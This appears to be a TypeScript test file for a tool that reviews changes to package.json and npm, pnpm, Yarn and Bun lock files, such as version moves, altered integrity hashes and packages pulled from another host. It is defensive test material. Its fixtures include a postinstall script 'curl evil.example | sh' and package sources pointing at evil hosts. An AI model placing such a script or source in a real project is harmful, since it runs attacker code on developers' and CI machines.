// What a review reports of package.json and the lock file, whichever package manager wrote it.
import { compareDependencies } from "../../../src/review/changes/compare-dependencies";
import { readDependencies } from "../../../src/review/declared/declared-dependencies";
import { filesOf } from "../../../src/review/git/files";

type Locked = Record<string, { version: string; source?: string; integrity?: string; script?: boolean }>;

const registry = (name: string, version: string) =>
  `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`;

/** The same packages in the form of each package manager. */
const writers: Record<string, (locked: Locked) => string> = {
  "package-lock.json": (locked) =>
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        "": { name: "shop" },
        "node_modules/own": { resolved: "packages/own", link: true },
        ...Object.fromEntries(
          Object.entries(locked).map(([name, { version, source, integrity, script }]) => [
            `node_modules/${name}`,
            {
              ...{
                version,
                resolved: source ?? registry(name, version),
                integrity: integrity ?? `sha512-${version}`,
              },
              ...(script && { hasInstallScript: true }),
            },
          ]),
        ),
      },
    }),
  "pnpm-lock.yaml": (locked) =>
    `lockfileVersion: '9.0'\npackages:\n${Object.entries(locked)
      .map(
        ([name, { version, source, integrity, script }]) =>
          `  '${name}@${version}':\n    resolution: {integrity: ${integrity ?? `sha512-${version}`}${source === undefined ? "" : `, tarball: '${source}'`}}\n${script ? "    requiresBuild: true\n" : ""}`,
      )
      .join("")}`,
  "yarn.lock": (locked) =>
    `# yarn lockfile v1\n\n\n${Object.entries(locked)
      .map(
        ([name, { version, source, integrity }]) =>
          `"${name}@^${version}":\n  version "${version}"\n  resolved "${source ?? registry(name, version)}#0123456789abcdef"\n  integrity ${integrity ?? `sha512-${version}`}\n`,
      )
      .join("\n")}`,
  "bun.lock": (locked) =>
    `{\n  "lockfileVersion": 1,\n  "packages": {\n${Object.entries(locked)
      .map(
        ([name, { version, source, integrity }]) =>
          `    "${name}": ["${name}@${version}", "${source ?? ""}", {}, "${integrity ?? `sha512-${version}`}"],\n`,
      )
      .join("")}  },\n}\n`,
};

const asked = (version: string, more: object = {}) =>
  JSON.stringify({ dependencies: { "customers-as-code": version }, ...more });

function changes(before: Record<string, string>, after: Record<string, string>) {
  return compareDependencies(readDependencies(filesOf(before)), readDependencies(filesOf(after)));
}

const sentences = (before: Record<string, string>, after: Record<string, string>) =>
  changes(before, after).map(({ sentence }) => sentence);

describe.each(Object.keys(writers))("with %s", (file) => {
  const company = (version: string, locked: Locked) => ({
    "package.json": asked(version),
    [file]: writers[file]?.(locked) ?? "",
  });
  const yaml = { version: "2.9.1" };
  const base = company("0.2.0", { "customers-as-code": { version: "0.2.0" }, yaml });

  test("an upgrade of the product is one sentence with both versions and its changelog", () => {
    const head = company("0.3.0", { "customers-as-code": { version: "0.3.0" }, yaml });
    expect(changes(base, head)).toEqual([
      expect.objectContaining({
        gravity: "grave",
        effect: "program",
        sentence:
          "moves `customers-as-code` from `0.2.0` to `0.3.0`: another version of the program and of its guards runs; its CHANGELOG says what is different",
      }),
    ]);
  });

  test("an older version loosens guards", () => {
    const head = company("0.1.9", { "customers-as-code": { version: "0.1.9" }, yaml });
    expect(changes(base, head)).toEqual([expect.objectContaining({ effect: "guard" })]);
  });

  test("other contents of the same version are what a reviewer sees first", () => {
    const head = company("0.2.0", {
      "customers-as-code": { version: "0.2.0", integrity: "sha512-other" },
      yaml: { version: "2.9.1", integrity: "sha512-other" },
    });
    expect(changes(base, head)).toEqual([
      expect.objectContaining({
        gravity: "grave",
        effect: "guard",
        sentence: expect.stringMatching(
          /^locks other contents of `customers-as-code 0\.2\.0`, `yaml 2\.9\.1`/,
        ),
      }),
    ]);
  });

  test("a download from elsewhere is reported, of a version that was there and of a new one", () => {
    const source = "https://packages.evil.example/x.tgz";
    for (const version of ["0.2.0", "0.3.0"]) {
      const head = company(version, { "customers-as-code": { version, source }, yaml });
      expect(changes(base, head)).toContainEqual(
        expect.objectContaining({
          effect: "guard",
          sentence: expect.stringMatching(
            /^has `customers-as-code \d\.\d\.\d` downloaded from elsewhere: `https:\/\/packages\.evil\.example/,
          ),
        }),
      );
    }
  });

  test("other packages are counted and named", () => {
    const head = company("0.2.0", {
      "customers-as-code": { version: "0.2.0" },
      yaml: { version: "2.10.0" },
      zod: { version: "4.0.0" },
    });
    expect(sentences(base, head)).toEqual([
      "locks 2 versions of other packages that were not there, and drops 1: `yaml 2.10.0`, `zod 4.0.0`, `yaml 2.9.1`: they run with the program",
    ]);
  });

  test("a lock file that does not fit package.json is reported", () => {
    const head = company("0.3.0", { "customers-as-code": { version: "0.2.0" }, yaml });
    expect(sentences(base, head)).toEqual([
      "asks for `customers-as-code` `0.3.0` in package.json, and locks `0.2.0`: `npm ci` refuses it",
    ]);
  });

  test("the same dependencies change nothing", () => {
    expect(changes(base, base)).toEqual([]);
  });
});

test.each(["package-lock.json", "pnpm-lock.yaml"])(
  "a new script at installation is reported with %s",
  (file) => {
    const lock = (script: boolean) => ({
      [file]: writers[file]?.({ yaml: { version: "2.9.1", script } }) ?? "",
    });
    expect(sentences(lock(false), lock(true))).toEqual([
      "installs `yaml 2.9.1`, which runs a script when it is installed: it runs before anything checks it",
    ]);
  },
);

test("the form of Yarn 2 and later is read too", () => {
  const lock = (version: string, checksum: string) => ({
    "yarn.lock": `__metadata:\n  version: 8\n\n"customers-as-code@npm:${version}":\n  version: ${version}\n  resolution: "customers-as-code@npm:${version}"\n  checksum: 10c0/${checksum}\n\n"shop@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "shop@workspace:."\n`,
  });
  expect(sentences(lock("0.2.0", "aa"), lock("0.3.0", "bb"))[0]).toMatch(/from `0\.2\.0` to `0\.3\.0`/);
  expect(sentences(lock("0.2.0", "aa"), lock("0.2.0", "bb"))).toEqual([
    expect.stringMatching(/^locks other contents of `customers-as-code 0\.2\.0`/),
  ]);
});

test("another package under the product's name is reported as one", () => {
  const lock = (entry: object) => ({
    "package-lock.json": JSON.stringify({ packages: { "node_modules/customers-as-code": entry } }),
  });
  const own = { version: "0.2.0", resolved: registry("customers-as-code", "0.2.0") };
  expect(changes(lock(own), lock({ ...own, name: "evil" }))).toContainEqual(
    expect.objectContaining({
      effect: "guard",
      sentence: expect.stringContaining("from `0.2.0` to `evil@0.2.0`"),
    }),
  );
});

test.each([
  ["a range", "^0.2.0"],
  ["a tag", "latest"],
  ["a repository", "git+https://git.example/x.git"],
  ["a file", "file:../x"],
])("%s instead of an exact version loosens a guard", (_, specifier) => {
  expect(changes({ "package.json": asked("0.2.0") }, { "package.json": asked(specifier) })).toEqual([
    expect.objectContaining({ effect: "guard", sentence: expect.stringContaining("no exact version") }),
  ]);
});

test("scripts and replacements of packages in package.json are reported", () => {
  const head = asked("0.2.0", {
    scripts: { postinstall: "curl evil.example | sh" },
    overrides: { zod: "npm:evil@1.0.0" },
    constructor: { a: 1 },
  });
  const found = changes({ "package.json": asked("0.2.0") }, { "package.json": head });
  expect(found.map(({ gravity }) => gravity)).toEqual(["grave", "grave", "grave"]);
  expect(found.map(({ sentence }) => sentence)).toEqual([
    expect.stringMatching(/^sets `scripts` to .*curl evil.* in `package\.json`: npm runs it, in CI/),
    expect.stringMatching(/^sets `overrides` to .*evil@1\.0\.0.* in `package\.json`: another package runs/),
    expect.stringContaining("what reads it is not known here"),
  ]);
});

test("dependencies from elsewhere than a registry are grave, and versions are not", () => {
  const head = asked("0.2.0", { devDependencies: { a: "1.0.0", b: "github:evil/b" } });
  const base = asked("0.2.0", { devDependencies: {} });
  expect(changes({ "package.json": base }, { "package.json": head }).map(({ gravity }) => gravity)).toEqual([
    "notable",
    "grave",
  ]);
});

test.each([
  ["is not JSON", "<<<<<<< HEAD\n"],
  [
    "has the form of npm 6",
    JSON.stringify({ lockfileVersion: 1, dependencies: { "customers-as-code": { version: "0.2.0" } } }),
  ],
])("a lock file that %s is reported as one that cannot be read", (_what, lockFile) => {
  expect(sentences({ "package-lock.json": "{}" }, { "package-lock.json": lockFile })).toEqual([
    "changes dependencies, and `package-lock.json` cannot be read: nobody knows which packages it has installed",
  ]);
});

test.each([
  ["bun.lockb", "\0a", "\0b"],
  ["package-lock.json", "<<<<<<< HEAD\n", "<<<<<<< HEAD\n>>>>>>>\n"],
])("a change of %s that could not be read before either is reported", (file, before, after) => {
  expect(sentences({ [file]: before }, { [file]: after })).toEqual([
    `changes dependencies, and \`${file}\` cannot be read: nobody knows which packages it has installed`,
  ]);
});

test("a workspace's files above the project are read, those in folders are not the company's", () => {
  const locked = (version: string) =>
    writers["package-lock.json"]?.({ "customers-as-code": { version } }) ?? "";
  expect(
    sentences({ "../package-lock.json": locked("0.2.0") }, { "../package-lock.json": locked("0.3.0") }),
  ).toEqual([expect.stringMatching(/^moves `customers-as-code`/)]);
  expect(
    sentences({ "x/package-lock.json": locked("0.2.0") }, { "x/package-lock.json": locked("0.3.0") }),
  ).toEqual([]);
});
